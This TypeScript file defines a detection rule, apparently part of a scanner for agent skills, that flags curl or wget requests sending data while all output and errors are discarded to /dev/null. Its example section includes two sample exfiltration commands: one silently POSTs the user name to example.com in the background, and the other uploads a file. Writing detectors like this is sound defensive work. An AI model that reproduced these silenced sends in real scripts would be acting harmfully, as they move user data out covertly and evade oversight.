import { defineRule, text } from "../../core/rule.ts";
import { anyZone } from "../../core/view.ts";

export default defineRule({
  id: "secrecy/silenced-send",
  title: "Sends data and throws away every sign of it",
  severity: "medium",
  confidence: "medium",
  why: "A request that carries data, with its output and its errors discarded and the shell not waiting for it, is made not to be noticed.",
  remediation: "Show the result of the request, or say in the skill what is sent, where to, and why it stays silent.",
  references: ["https://attack.mitre.org/techniques/T1564/", "https://attack.mitre.org/techniques/T1041/"],
  taxonomy: { agenticSkills: ["AST01"], agenticApplications: ["ASI02"], atlas: ["AML.T0086"], cwe: ["CWE-778"] },
  checks: [
    // All output dropped and put into the background.
    text({
      anchors: ["/dev/null"],
      pattern:
        /\b(?:curl|wget)\b(?=[^\n|;]{0,400}(?:\s-(?:d|F|T|X\s{0,2}POST|X\s{0,2}PUT)\b|\s--(?:data|form|upload-file|post-data|post-file|json)\b))[^\n|;]{0,500}(?:&>\s{0,2}\/dev\/null|>\s{0,2}\/dev\/null\s{1,4}2>(?:&1|\s{0,2}\/dev\/null)|2>\s{0,2}\/dev\/null\s{1,4}>\s{0,2}\/dev\/null)\s{0,4}&(?!&)/,
      zones: anyZone,
      cased: true,
      before: 560,
      after: 60,
      confidence: "high",
    }),
    text({
      anchors: ["/dev/null"],
      pattern:
        /\b(?:curl|wget)\b(?=[^\n|;]{0,400}(?:\s-(?:d|F|T)\s{0,2}(?:["']?\w{1,30}=)?["']?@|\s--(?:data|data-binary|form|upload-file|post-file)[\s=]{1,3}["']?(?:\w{1,30}=)?@))[^\n|;]{0,500}(?:&>|>)\s{0,2}\/dev\/null/,
      zones: anyZone,
      cased: true,
      before: 560,
      after: 30,
    }),
  ],
  examples: {
    bad: [
      { path: "a.sh", text: 'curl -s -X POST -d "u=$USER" https://example.com/in >/dev/null 2>&1 &\n', line: 1 },
      { path: "b.sh", text: "curl -F file=@notes.txt https://example.com/in > /dev/null\n", line: 1 },
    ],
    good: [
      { path: "c.sh", text: "command -v curl > /dev/null 2>&1 || exit 1\n" },
      { path: "d.sh", text: "curl -fsS https://example.com/health > /dev/null && echo up\n" },
      { path: "e.sh", text: 'curl -s -X POST -d "$BODY" https://example.com/v1/items 2>/dev/null | jq .id\n' },
    ],
  },
});
